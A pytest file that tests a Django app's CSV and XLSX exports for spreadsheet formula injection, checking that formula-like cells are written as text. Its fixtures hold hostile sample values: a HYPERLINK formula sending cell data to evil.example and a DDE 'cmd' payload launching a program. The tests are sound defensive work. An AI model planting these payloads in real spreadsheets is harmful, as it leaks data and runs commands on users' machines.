"""Exports never hand a spreadsheet a formula to run: the API's CSV and the admin's measure
export (CSV, XLSX) write such cells as text, and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from exports.formulas import neutralise_formula
from targets.models import Target
from tests.factories import MeasureFactory, ObservationFactory, SnapshotFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("api_unthrottled")]

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Source")'
COMMAND = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        (COMMAND, "'" + COMMAND),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        ("-1.5e3", "-1.5e3"),
        ("-.5", "-.5"),
        (-5, -5),
        (-0.25, -0.25),
        (Decimal("-5.0000"), Decimal("-5.0000")),
    ],
)
def test_the_rule(value, written):
    assert neutralise_formula(value) == written


def _csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.getvalue().decode())))  # whole tables are streamed


def test_the_api_csv_writes_formulas_as_text(hangzhou_plan):
    target = Target.objects.get(code="core-invention-patents")
    ObservationFactory(
        target=target, source_title=HYPERLINK, quote="@SUM(A1:A9)", definition_note=COMMAND,
        confidence_note="\t=1+1",
    )

    rows = _csv_rows(APIClient().get("/api/v1/observations/", {"format": "csv", "target": target.code}))

    assert len(rows) == 1
    assert rows[0]["source_title"] == "'" + HYPERLINK
    assert rows[0]["quote"] == "'@SUM(A1:A9)"
    assert rows[0]["definition_note"] == "'" + COMMAND
    assert rows[0]["confidence_note"] == "'\t=1+1"
    assert rows[0]["indicator"] == target.indicator.code  # untouched


def test_the_api_csv_keeps_negative_numbers_as_numbers(hangzhou_plan):
    """A target that moved away from its goal has negative progress: -0.25, not '-0.25."""
    SnapshotFactory(target=Target.objects.get(code="industry-size"), progress=-0.25, expected=0.5)

    rows = _csv_rows(APIClient().get("/api/v1/snapshots/", {"format": "csv"}))

    assert rows[0]["progress"] == "-0.25"
    assert rows[0]["expected"] == "0.5"


def _admin_export(client, file_format: str):
    """The admin's export, as a zone administrator fills in the form: every column."""
    url = reverse("admin:measures_measure_export")
    form = client.get(url).context["form"]
    formats = [choice for choice in form.fields["format"].choices if choice[0] != ""]
    data = {"format": next(value for value, label in formats if label == file_format), "resource": "0"}
    data.update({name: "on" for name in form.fields if name.startswith("measureresource_")})
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response


@pytest.fixture
def hostile_measure(hangzhou_plan):
    return MeasureFactory(
        area=hangzhou_plan.areas.order_by("number").first(), number=90, title_en=HYPERLINK,
        title_zh="-5", description=COMMAND, lead_agency_text="@SUM(A1:A9)",
    )


def test_the_admin_csv_export_writes_formulas_as_text(client, superuser, hostile_measure):
    client.force_login(superuser)

    response = _admin_export(client, "csv")

    row = next(row for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))) if row["number"] == "90")
    assert row["title_en"] == "'" + HYPERLINK
    assert row["description"] == "'" + COMMAND
    assert row["lead_agency"] == "'@SUM(A1:A9)"
    assert row["title_zh"] == "-5"  # a number as text stays as it is


def test_the_admin_xlsx_export_writes_formulas_as_text_and_numbers_as_numbers(client, superuser, hostile_measure):
    client.force_login(superuser)

    response = _admin_export(client, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = next(row for row in sheet.iter_rows(min_row=2) if row[header.index("number")].value == 90)
    cells = dict(zip(header, row, strict=True))
    assert cells["title_en"].value == "'" + HYPERLINK
    assert cells["title_en"].data_type == "s"  # text, not a formula
    assert cells["description"].value == "'" + COMMAND
    assert cells["lead_agency"].value == "'@SUM(A1:A9)"
    assert cells["number"].data_type == "n"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
